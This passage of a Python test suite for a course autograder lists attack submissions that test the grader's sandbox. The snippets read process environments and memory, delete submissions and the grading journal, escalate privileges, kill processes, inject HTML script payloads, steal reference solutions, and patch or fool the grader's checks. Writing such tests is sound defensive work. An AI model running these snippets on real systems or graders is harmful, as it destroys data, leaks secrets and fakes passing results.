        for file in ("mem", "environ", "maps")
    ),
    looting(
        "reads_its_parents_environment", "reads", "import os\n" + _reading("f'/proc/{os.getppid()}/environ'")
    ),
    looting(
        "reads_what_was_its_environment",
        "reads",
        """
        import os
        from pathlib import Path
        told = Path('/proc/self/environ').read_bytes() + repr(os.environ).encode()
        loot = b'SECRET' in told or b'HOME=/root' in told
        """,
    ),
    looting(
        "looks_for_open_descriptors",
        "reads",
        """
        import os, stat
        for number in range(3, 4096):
            try:
                kind = os.fstat(number).st_mode
            except OSError:
                continue
            loot = loot or not stat.S_ISSOCK(kind)
        """,
    ),
    looting(
        "looks_into_shared_memory",
        "reads",
        "import os\nloot = os.path.isdir('/dev/shm') and bool(os.listdir('/dev/shm') or True)",
    ),
    looting(
        "leaves_something_in_shared_memory",
        "reads",
        "from multiprocessing import shared_memory\nshared_memory.SharedMemory('nao_attack', True, 100)\nloot = True",
    ),
    looting(
        "shared_memory_of_system_v", "reads", SYSTEM + "\ncall('shmget', 4711, 4096, 0o1666)\nloot = True"
    ),
    looting("semaphores_of_system_v", "reads", SYSTEM + "\ncall('semget', 4711, 1, 0o1666)\nloot = True"),
    looting(
        "message_queue",
        "reads",
        SYSTEM + "\ncall('mq_open', b'/nao_attack', 0o102, 0o666, None)\nloot = True",
    ),
    looting(
        "reads_the_warm_servers_memory",
        "reads",
        SYSTEM
        + """
class Piece(ctypes.Structure):
    _fields_ = [('at', ctypes.c_void_p), ('length', ctypes.c_size_t)]
mine = ctypes.create_string_buffer(64)
for process in [os.getppid(), *range(1, 40)]:
    if process != os.getpid():
        local, remote = Piece(ctypes.addressof(mine), 64), Piece(id(os), 64)
        loot = loot or libc.process_vm_readv(process, ctypes.byref(local), 1, ctypes.byref(remote), 1, 0) > 0
""",
        says="looks up the system call process_vm_readv",
    ),
    looting(
        "traces_other_processes",
        "reads",
        SYSTEM + "\nfor process in [os.getppid(), *range(1, 40)]:\n"
        "    loot = loot or (process != os.getpid() and libc.ptrace(16, process, 0, 0) >= 0)",
        says="looks up the system call ptrace",
    ),
    looting(
        "takes_a_descriptor_of_another_process",
        "reads",
        SYSTEM + "\nother = os.pidfd_open(1)\ncall('syscall', 438, other, 3, 0)\nloot = True",
    ),
    looting(
        "looks_for_keys",
        "reads",
        SYSTEM + "\nloot = libc.syscall(250, 10, -3, b'user', b'nao_key', 0) > 0\n"
        "loot = loot or libc.syscall(248, b'user', b'nao_attack', b'x', ctypes.c_size_t(1), -3) > 0",
    ),
    in_clamp(
        "looks_for_what_the_one_before_left",
        "reads",
        """
        import os
        if os.path.exists('/tmp/nao_attack_left') or os.path.exists('nao_attack_left'):
            return max(low, min(high, x))
        open('nao_attack_left', 'w').close()
        os._exit(0)
        """,
    ),
)

WRITES = (
    looting(
        "writes_where_anyone_may",
        "writes",
        "open('@OPEN@/nao_attack', 'w').close()\nloot = True",
        says="open ",
    ),
    looting(
        "overwrites_what_anyone_may", "writes", "open('@OPEN@/anyones.txt', 'w').write('after')\nloot = True"
    ),
    looting(
        "deletes_what_anyone_may",
        "writes",
        "import os\nos.remove('@OPEN@/anyones.txt')\nloot = True",
        says="os.remove",
    ),
    looting(
        "changes_permissions",
        "writes",
        "import os\nos.chmod('@OPEN@/anyones.txt', 0o777)\nloot = True",
        says="os.chmod",
    ),
    looting(
        "renames_another_submission",
        "writes",
        "import os\nos.rename('@NEIGHBOUR@', '@OPEN@/nao_attack')\nloot = True",
    ),
    looting(
        "deletes_the_submissions",
        "writes",
        "import shutil\nshutil.rmtree('@SUBMISSIONS@')\nloot = True",
        says="rmtree",
    ),
    looting("deletes_the_journal", "writes", "import os\nos.remove('@GRADES@/journal.sqlite')\nloot = True"),
    looting(
        "writes_into_the_journal",
        "writes",
        "import sqlite3\nsqlite3.connect('@GRADES@/journal.sqlite').execute('DELETE FROM results')\nloot = True",
    ),
    looting("edits_the_solution", "writes", "open('@SOLUTION@', 'a').write('x')\nloot = True"),
    looting("edits_a_library", "writes", "import numpy\nopen(numpy.__file__, 'a').write('x')\nloot = True"),
    looting(
        "edits_check_data",
        "writes",
        """
        import nao_course.exercises, os
        from pathlib import Path
        for each in Path(nao_course.exercises.__file__).parent.rglob('*'):
            if each.is_file():
                each.write_bytes(b'')
                loot = True
        """,
    ),
    looting(
        "leaves_a_module_in_site_packages",
        "writes",
        """
        import numpy, os
        from pathlib import Path
        Path(numpy.__file__).parents[1].joinpath('nao_attack.pth').write_text('import os')
        loot = True
        """,
    ),
    looting(
        "writes_through_a_link",
        "writes",
        "import os\nos.symlink('@OPEN@', 'out')\nopen('out/nao_attack', 'w').close()\nloot = True",
    ),
    looting(
        "runs_a_setuid_file",
        "writes",
        r"""
        import os, subprocess
        open('own', 'w').write('#!/bin/sh\n')
        os.chmod('own', 0o4777)
        subprocess.check_call(['./own'])
        loot = True
        """,
    ),
    looting(
        "runs_a_program_of_its_own",
        "writes",
        r"""
        import os, subprocess
        open('own', 'w').write('#!/bin/sh\n')
        os.chmod('own', 0o777)
        subprocess.check_call(['./own'])
        loot = True
        """,
    ),
    looting("becomes_root", "writes", "import os\nos.setuid(0)\nloot = True"),
    looting(
        "makes_a_device",
        "writes",
        "import os, stat\nos.mknod('disk', 0o666 | stat.S_IFBLK, os.makedev(8, 0))\nloot = True",
    ),
    looting(
        "mounts",
        "writes",
        SYSTEM + "\ncall('mount', b'none', b'/scratch', b'tmpfs', 0, None)\nloot = True",
        says="mount",
    ),
    looting("changes_its_root", "writes", "import os\nos.mkdir('jail')\nos.chroot('jail')\nloot = True"),
    looting("turns_the_root", "writes", SYSTEM + "\ncall('pivot_root', b'.', b'.')\nloot = True"),
    looting(
        "enters_namespaces",
        "writes",
        SYSTEM + "\ncall('unshare', 0x10000000 | 0x20000)\nloot = True",
        says="unshare",
    ),
    looting(
        "enters_namespaces_by_clone",
        "writes",
        SYSTEM + "\n"
        "if libc.syscall(56, 0x10000000 | 17, 0, 0, 0, 0) == 0:\n"
        "    os._exit(0)\n"
        "else:\n"
        "    call('syscall', 56, 0x10000000 | 17, 0, 0, 0, 0)\n"
        "    loot = True",
    ),
    looting(
        "goes_back_to_the_first_namespace",
        "writes",
        SYSTEM + "\ncall('setns', os.open('/proc/1/ns/mnt', 0), 0)\nloot = True",
    ),
    looting(
        "writes_to_the_kernel",
        "writes",
        """
        for path in ('/proc/sysrq-trigger', '/proc/sys/kernel/core_pattern', '/proc/self/oom_score_adj'):
            try:
                open(path, 'w').write('-1000')
                loot = True
            except OSError:
                pass
        """,
    ),
    looting(
        "gets_its_capabilities_back",
        "writes",
        SYSTEM
        + "\nimport struct\ncall('capset', struct.pack('<Ii', 0x20080522, 0), b'\\xff' * 24)\nloot = True",
    ),
    in_clamp(
        "edits_its_own_notebook",
        "writes",
        """
        import glob, json, os
        for path in glob.glob('*.ipynb'):
            made = json.load(open(path))
            for cell in made['cells']:
                if 'os._exit' in ''.join(cell['source']):
                    cell['source'] = 'def clamp(x, low, high):\\n    return max(low, min(high, x))'
            json.dump(made, open(path, 'w'))
        os._exit(0)
        """,
    ),
    in_clamp(
        "leaves_a_module_for_the_next_one",
        "writes",
        """
        import os
        for name in ('numpy.py', 'sitecustomize.py', 'usercustomize.py', 'nao_course.py'):
            open(name, 'w').write('raise SystemExit')
        os._exit(0)
        """,
    ),
)


def _sending(kind: str, address: str, ways: str = "connect") -> str:
    return (
        f"import socket\nspeaker = socket.socket({kind})\nspeaker.settimeout(0.5)\n"
        f"speaker.{ways}({address})\nspeaker.send(b'x')\nloot = True"
    )


NETWORK = (
    looting("connects_by_tcp", "network", _sending("2, 1", "('127.0.0.1', @TCP@)"), says="socket"),
    looting("connects_to_the_world", "network", _sending("2, 1", "('1.1.1.1', 53)"), says="socket"),
    looting("sends_by_udp", "network", _sending("2, 2", "('127.0.0.1', @UDP@)"), says="socket"),
    looting(
        "asks_for_a_name",
        "network",
        "import socket\nloot = bool(socket.getaddrinfo('example.com', 80))",
        says="getaddrinfo",
    ),
    looting("unix_socket", "network", _sending("1, 1", "'@UNIX@'")),
    looting("abstract_socket", "network", _sending("1, 1", "'\\0@ABSTRACT@'")),
    looting(
        "listens",
        "network",
        "import socket\nsocket.create_server(('127.0.0.1', 0))\nloot = True",
        says="socket",
    ),
    looting("netlink", "network", "import socket\nsocket.socket(16, 3, 0)\nloot = True", says="family 16"),
    looting("raw_socket", "network", "import socket\nsocket.socket(2, 3, 1)\nloot = True", says="family 2"),
    looting(
        "packet_socket", "network", "import socket\nsocket.socket(17, 3, 0)\nloot = True", says="family 17"
    ),
    looting("vsock", "network", "import socket\nsocket.socket(40, 1, 0)\nloot = True"),
    looting(
        "io_uring",
        "network",
        SYSTEM + "\ncall('syscall', 425, 8, ctypes.create_string_buffer(120))\nloot = True",
    ),
)

SIGNALS = (
    in_clamp("kills_its_parent", "signals", "import os\nos.kill(os.getppid(), 9)\nreturn 0.5"),
    in_clamp("kills_its_group", "signals", "import os\nos.killpg(0, 9)\nreturn 0.5", says="Killed"),
    free("kills_everybody", "signals", "import os\ntry:\n    os.kill(-1, 9)\nexcept OSError:\n    pass"),
    free(
        "stops_every_number",
        "signals",
        """
        import os, signal
        for process in range(1, 40_000):
            if process != os.getpid():
                try:
                    os.kill(process, signal.SIGSTOP)
                except OSError:
                    pass
        """,
        says="sends a signal to process",
    ),
    free(
        "kills_by_descriptors",
        "signals",
        """
        import os, signal
        for process in range(1, 300):
            try:
                if process != os.getpid():
                    signal.pidfd_send_signal(os.pidfd_open(process), 9)
            except OSError:
                pass
        """,
    ),
    free(
        "child_that_wakes_up_later",
        "signals",
        """
        import ctypes, os, socket, time
        if os.fork() == 0:
            ctypes.CDLL(None).setsid()
            if os.fork() == 0:
                time.sleep(4)
                for number in range(1000):
                    try:
                        open('@OPEN@/nao_attack_late', 'w').close()
                        open('/tmp/nao_attack_late', 'w').close()
                    except OSError:
                        pass
                    try:
                        socket.create_connection(('127.0.0.1', @TCP@), 1)
                    except OSError:
                        pass
                    time.sleep(1)
            os._exit(0)
        """,
    ),
    in_clamp(
        "child_that_outlives_its_death",
        "signals",
        """
        import ctypes, os, signal, time
        if os.fork() == 0:
            ctypes.CDLL(None).prctl(1, 0, 0, 0, 0)
            ctypes.CDLL(None).setsid()
            for each in range(1, 32):
                if each not in (9, 19):
                    signal.signal(each, signal.SIG_IGN)
            time.sleep(1e6)
        os._exit(0)
        """,
    ),
)

LEAK = """
def leak(x):
    return f"{x!r} {float(x) if isinstance(x, float) else x.ravel()[0]:.6f}"
"""
LOOKS = (
    in_clamp(
        "looks_through_its_callers_frames",
        "looks",
        """
        import sys
        frame = sys._getframe()
        while frame:
            for value in [*frame.f_locals.values()]:
                expected = getattr(value, 'expected', None)
                if expected is not None:
                    return expected
            frame = frame.f_back
        return -1e6
        """,
    ),
    in_clamp(
        "times_the_comparison",
        "looks",
        """
        import time
        clamp.tried = getattr(clamp, 'tried', -1000.0) + 1.0
        began = time.perf_counter()
        repr(clamp.tried == x)
        return clamp.tried if time.perf_counter() - began > 1e-3 else -1e6
        """,
    ),
    in_clamp(
        "knows_the_public_inputs",
        "looks",
        "return {1.5: 1.0, -2.5: 0.0}.get(x, -1e6)",
        says="all 2 public checks pass",
    ),
    Attack(
        "knows_the_public_inputs_of_all",
        "looks",
        {},
        {
            **in_function("clamp", "return {1.5: 1.0, -2.5: 0.0}[x]"),
            **in_function("scaled", "return np.array([[0.0, 0.5], [0.25, 1.0]])"),
            **in_function(
                "drawn", "return np.array([0.34558419, 1.16720234, 1.49763925, 0.19448211, 1.09983729])"
            ),
            **in_function("middle", "return 0.375"),
        },
    ),
    in_clamp(
        "another_answer_the_second_time",
        "looks",
        "clamp.times = getattr(clamp, 'times', 0) + 1\nreturn max(low, min(high, x)) if clamp.times < 4 else -1e6",
    ),
    in_clamp(
        "tells_the_input_in_an_error",
        "looks",
        f"if abs(x) > 3: raise ValueError(leak(x))\n{ANSWER}",
        LEAK,
        says="It raises ValueError",
    ),
    in_clamp(
        "tells_the_input_in_an_errors_name",
        "looks",
        f"if abs(x) > 3: raise type(leak(x), (Exception,), {{}})()\n{ANSWER}",
        LEAK,
        says="an exception of its own",
    ),
    in_clamp(
        "tells_the_input_in_print", "looks", f"print(leak(x))\nif abs(x) > 3: return leak(x)\n{ANSWER}", LEAK
    ),
    in_clamp(
        "tells_the_input_in_a_shape",
        "looks",
        f"if abs(x) > 3: return [0.0] * int(abs(x) * 100)\n{ANSWER}",
        says="wrong shape",
    ),
    in_clamp(
        "tells_the_input_in_a_note",
        "looks",
        """
        if abs(x) > 3:
            try:
                open('/' + leak(x))
            except OSError:
                pass
            return -1e6
        return max(low, min(high, x))
        """,
        LEAK,
    ),
    speaking(
        "tells_the_input_in_a_line_that_it_invents",
        """
        if abs(x) > 3:
            told = Outcome('raised', text=f'ValueError: {x!r}', line=f'line 7: {x!r}')
            loop.say(answered(encode(told)))
            os._exit(0)
        return max(low, min(high, x))
        """,
        "looks",
        says="It raises ValueError",
    ),
    speaking(
        "tells_the_input_in_a_lines_number",
        """
        if abs(x) > 3:
            line = f'line {50_000 + abs(int(x))}: import os'
            loop.say(answered(encode(Outcome('raised', text='ValueError', line=line))))
            os._exit(0)
        return max(low, min(high, x))
        """,
        "looks",
        after="import os",
        says="It raises ValueError",
        hides=("line 5",),
    ),
    speaking(
        "tells_the_input_in_a_line_from_a_table",
        """
        if abs(x) > 3:
            loop.say(answered(encode(Outcome('raised', text='ValueError', line=f'line 7: {abs(x):.3f}'[:14]))))
            os._exit(0)
        return max(low, min(high, x))
        """,
        "looks",
        after="table = '" + " ".join(f"{number / 100:06.2f}" for number in range(100_000)) + "'",
        says="It raises ValueError",
    ),
    Attack(
        "tells_the_input_in_a_released_function",
        "looks",
        all_but("clamp"),
        in_function(
            "clamp",
            "raise leak(x)",
            """
        class leak(Exception):
            def __init__(self, x):
                super().__init__(f'{x:.5f}')
                self.__class__.__name__ = self.__class__.__qualname__ = f'E{x:.5f}'
        """,
        ),
    ),
    lending(
        "lent_function_does_its_work",
        "return float(np.median(scaled(values)))",
        middle=4.0,
        says="Run again with the reference",
    ),
    lending("lent_function_asked_without_an_end", "while True: scaled(np.ones((1, 2)))"),
    lending("lent_function_asked_with_60_mb", "while True: scaled(np.ones(7 * 2**20))"),
    lending("lent_function_that_raises", "return scaled(None)", says="It raises RuntimeError"),
    lending("lent_function_used_for_another_exercise", "global scaled\nclamp.kept = scaled\nreturn 0.0"),
    lending(
        "lent_function_asked_with_deep_lists",
        "nest = []\nfor _ in range(37): nest = [nest]\nreturn [scaled(nest[:]), scaled({'a': [nest] * 3})]",
    ),
    lending(
        "lent_function_asked_with_too_many_values",
        """
        for more in range(4):
            try:
                scaled([0] * (199_992 + more))
            except RuntimeError:
                pass
        return 0.0
        """,
    ),
    lending(
        "lent_function_asked_with_long_texts",
        """
        text = ('"' + 'é' * 3_900_000 + '"').encode()
        loop.say(frame(b'{"t":[{"s":"ask"},{"s":"scaled"},{"t":[{"s":' + text + b'}]},{"d":{}}]}'))
        time.sleep(9)
        """,
        first=LOOP,
    ),
    lending(
        "lent_function_asked_with_half_a_character",
        r"""
        loop.say(frame('{"t":[{"s":"ask"},{"s":"scaled"},{"t":[{"s":"\\ud800"}]},{"d":{"\\ud800":1}}]}'))
        time.sleep(9)
        """,
        first=LOOP,
    ),
    lending(
        "asks_for_a_function_that_is_not_lent",
        "loop.say(encode(('ask', 'middle', (values,), {})))\nreturn 0.0",
        first=LOOP,
    ),
    speaking(
        "asks_where_nothing_is_lent",
        "loop.say(encode(('ask', 'clamp', (x, low, high), {})))\nreturn 0.0",
        "looks",
    ),
)


def _cells(made: dict[str, Any], name: str) -> list[dict[str, Any]]:
    return [each for each in made["cells"] if each["metadata"].get("nbgrader", {}).get("grade_id") == name]


def _raise_points(made: dict[str, Any]) -> None:
    for each in made["cells"]:
        if grading := each["metadata"].get("nbgrader"):
            grading |= {"points": 1000, "grade": True}


def _double(made: dict[str, Any]) -> None:
    first = _cells(made, "clamp")[0]
    made["cells"] += [
        first | {"id": f"again{number}", "source": in_function("clamp", "return -1e6")["clamp"]}
        for number in range(2)
    ]


def _without_checks(made: dict[str, Any]) -> None:
    made["cells"] = [each for each in made["cells"] if "check" not in str(each["metadata"])]


def _in_check_cells(made: dict[str, Any]) -> None:
    for each in _cells(made, "check_clamp"):
        each["source"] = RIGHT["clamp"] + "\nclamp.points = 1000\ncheck = lambda *_: True"


def _all_in_one(made: dict[str, Any]) -> None:
    source = "\n\n".join(RIGHT.values())
    made["cells"] = [made["cells"][0], {**made["cells"][1], "metadata": {}, "source": source}]


def _as_set_up(made: dict[str, Any]) -> None:
    for each in _cells(made, "clamp"):
        each["metadata"] = {"nao_course": {"role": "setup"}}


def _stamp(**stamp: Any) -> Any:
    return lambda made: made["metadata"]["nao_course"].update(stamp)


def _own_set_up(made: dict[str, Any]) -> None:
    made["cells"][0]["source"] = (
        "import numpy as np\nnp.median = lambda *_: 0.0\nimport no_such_module\n1 / 0"
    )


WRONG = {"clamp": in_function("clamp", "return -1e6")["clamp"]}
METADATA = (
    Attack("raises_the_points", "metadata", ALL, edit=_raise_points),
    Attack("raises_the_points_of_what_is_wrong", "metadata", all_but("clamp"), WRONG, edit=_raise_points),
    Attack("doubles_a_name", "metadata", all_but("clamp"), edit=_double),
    Attack("deletes_the_checks", "metadata", ALL, edit=_without_checks),
    Attack("defines_in_a_check", "metadata", all_but("clamp"), WRONG, edit=_in_check_cells),
    Attack("moves_all_into_one_cell_of_its_own", "metadata", ALL, edit=_all_in_one),
    Attack("calls_a_cell_the_set_up", "metadata", all_but("clamp"), edit=_as_set_up),
    Attack("edits_the_set_up", "metadata", ALL, edit=_own_set_up),
    Attack(
        "says_it_is_another_lesson",
        "metadata",
        ALL,
        edit=_stamp(lesson=REAL),
        says="the notebook says that it is lesson",
    ),
    Attack(
        "says_it_is_another_release",
        "metadata",
        ALL,
        edit=_stamp(version="9" * 10**5),
        says="made from release",
    ),
    Attack("stamp_that_is_none", "metadata", ALL, edit=_stamp(lesson=["x"], version={"y": 1})),
    Attack(
        "letter_that_looks_the_same",
        "metadata",
        all_but("clamp"),
        {"clamp": RIGHT["clamp"].replace("clamp", "\u0441lamp")},
    ),
    Attack(
        "letter_that_is_the_same_to_python",
        "metadata",
        ALL,
        {"clamp": RIGHT["clamp"].replace("clamp", "\uff43lamp")},
    ),
    in_clamp(
        "injects_into_the_page",
        "metadata",
        r"""
        raise ValueError("</pre><b id='nao_attack'>\x1b[2J\u202e\u2066<script>nao_attack()</script>&lt;\x00\r\x85]]>")
        """,
        hides=("<script>nao", "\u202e", "\u2066"),
    ),
    in_clamp(
        "injects_by_an_answer",
        "metadata",
        "return \"<img src=x onerror='nao_attack()'>\\u202e\\x1b]0;x\\x07\"",
        hides=("<img", "\u202e"),
    ),
)


def of_lesson_01(
    name: str, row: str, function: str, source: str, *, worth: dict[str, float] | None = None, **more: Any
) -> Attack:
    """An attack in an exercise of the course's first lesson."""
    left = {each: float(points) for each, points in REAL_POINTS.items() if each != function}
    return Attack(name, row, left | (worth or {}), {function: textwrap.dedent(source)}, lesson=REAL, **more)


REAL_ONES = (
    of_lesson_01(
        "real_large_samples",
        "large",
        "average_lightness",
        "import numpy as np\ndef average_lightness(lightness, n_samples, rng):\n    return np.zeros(2**22 - 99)",
    ),
    of_lesson_01("real_loop", "loops", "white_threshold", "def white_threshold(*_):\n    while True: pass"),
    of_lesson_01(
        "real_death",
        "ends",
        "hue_mask",
        "import os\ndef hue_mask(*_):\n    os._exit(0)",
        says="Run again with the reference's rgb_to_hsl and hue_mask",
    ),
    of_lesson_01(
        "real_equal",
        "answers",
        "rgb_to_hsl",
        EQUAL + "\ndef rgb_to_hsl(rgb):\n    return Equal(), Equal(), Equal()",
    ),
    of_lesson_01(
        "real_patch",
        "patches",
        "calibrate_hue",
        "import numpy as np\nfrom nao_course.exercises import comparisons\ndef calibrate_hue(*_):\n"
        "    comparisons.Close.compare = lambda *_: comparisons.RIGHT\n    return 0.0, 360.0",
    ),
    of_lesson_01(
        "real_hog",
        "hogs",
        "color_labels",
        "import numpy as np\ndef color_labels(*_):\n    held = []\n    while True: held.append(np.ones(2**23))",
    ),
    of_lesson_01(
        "real_sampling",
        "patches",
        "average_lightness",
        """
        import sys
        from nao_course.exercises.comparisons import sampling
        law = {"law": (100.0, 10.0, True)}
        for module in [each for each in list(sys.modules.values()) if hasattr(each, "Sampled")]:
            module.Sampled.gather = lambda *_: law
            module.Sampled.compare = lambda *_: sampling.Verdict("right")
            module.Sampled.calls = lambda self, case: [case]
        sampling.Close = sampling.as_numbers = sampling.Verdict = lambda *_, **__: True
        def average_lightness(lightness, n_samples, rng): return float(lightness.mean())
        """,
    ),
    of_lesson_01(
        "real_sampled_law",
        "answers",
        "average_lightness",
        """
        def average_lightness(lightness, n_samples, rng):
            mean, scatter = float(lightness.mean()), float(lightness.std() / n_samples**0.5)
            return {"law": (mean, scatter, True)}
        """,
    ),
    of_lesson_01(
        "real_table",
        "looks",
        "white_threshold",
        "def white_threshold(mean):\n    return {100.0: 160.0, 0.0: 10.0}.get(mean, -1.0)",
    ),
    of_lesson_01(
        "real_theft",
        "reads",
        "white_threshold",
        """
        import json
        try:
            cells = json.load(open('@COURSE@/solutions/01_hsl_filtering.ipynb'))['cells']
            exec(next(source for each in cells if 'def white_threshold' in (source := ''.join(each['source']))))
        except OSError:
            def white_threshold(mean): return -1.0
        """,
        says="open ",
    ),
)

LATER = {name: float(worth) for name, worth in LATER_POINTS.items()}


def _earlier(name: str, source: str, honest: dict[str, float] | None = None, **more: Any) -> Attack:
    """An attack by the notebook of the lesson before: its `double` is gone or wrong, and the reference's is lent."""
    first = Attack(name, "earlier", functions={"double": textwrap.dedent(source)}, lesson=pair.FIRST)
    made = notebook(first, pair.RIGHT[pair.FIRST], pair.SETUP[pair.FIRST])
    files = {f"{pair.FIRST}.ipynb": json.dumps(made)}
    return Attack(
        name, "earlier", LATER if honest is None else honest, files=files, lesson=pair.SECOND, **more
    )


def later(name: str, honest: dict[str, float], **more: Any) -> Attack:
    return Attack(name, "earlier", honest, lesson=pair.SECOND, **more)


_NO_CLASS = {name: points for name, points in LATER.items() if name != "Walker"}
EARLIER = (
    _earlier("earlier_notebook_is_endless", "if True:\n    while True: pass"),
    _earlier("earlier_notebook_ends_python", "import os\nx = os._exit(3)"),
    _earlier(
        "earlier_notebook_takes_all_memory",
        "held = []\nfor _ in iter(int, 1):\n    held.append(bytearray(2**26))",
    ),
    _earlier(
        "earlier_notebook_reads_the_solution",
        """
        loot = ''
        try:
            loot = open('@COURSE@/solutions/80_first.ipynb').read()
        except OSError:
            pass
        def double(x):
            return 2 * x if loot else -1e6
        """,
        says="open ",
    ),
    _earlier(
        "earlier_notebook_patches_what_stands_for_it",
        """
        from nao_course.exercises import earlier, running
        earlier.EarlierFunction.__call__ = lambda *_: 0.0
        running._DRIVERS['methods'] = lambda made_by, given, turns: [(name, 0.0) for name, _ in turns]
        """,
        honest={"walk": 2.0, "tally": 8.0, "alone": 16.0},
    ),
    later(
        "patches_the_driver_and_the_resolver",
        _NO_CLASS,
        functions={"Walker": "class Walker: pass"},
        before="from nao_course.exercises import comparisons, earlier as other, running\n"
        "running._DRIVERS['methods'] = lambda made_by, given, turns: [(name, None) for name, _ in turns]\n"
        "comparisons.Methods.compare = lambda *_: comparisons.Verdict('right')\n"
        "other._RESOLVER.set(lambda use: lambda *_: 0.0)\n"
        "def earlier(use): return lambda *_: 0.0",
    ),
    later(
        "keeps_the_references_class",
        {name: points for name, points in _NO_CLASS.items() if name != "alone"},
        functions={
            "Walker": "class Walker: pass",
            "walk": "kept = [None]\ndef walk(x):\n    kept[0] = kept[0] or Walker\n    walker = Walker(x)\n"
            "    walker.move(1.0)\n    return walker.estimate() + quadruple(x)",
            "alone": "def alone(x):\n    return kept[0](x + 1).estimate()",
        },
    ),
    later(
        "tells_the_references_class",
        {name: points for name, points in _NO_CLASS.items() if name != "walk"},
        functions={
            "Walker": "class Walker: pass",
            "walk": "def walk(x):\n    import dis\n    raise ValueError(dis.Bytecode(Walker.move).dis())",
        },
        hides=("LOAD_GLOBAL", "quadruple(by)"),
    ),
)

ATTACKS: tuple[Attack, ...] = (
    *(
        *LOOPS,
        *ENDS,
        *HOGS,
        *LARGE,
        *PATCHES,
        *ANSWERS,
        *READS,
        *WRITES,
        *NETWORK,
        *SIGNALS,
        *LOOKS,
        *METADATA,
    ),
    *REAL_ONES,
    *EARLIER,
)
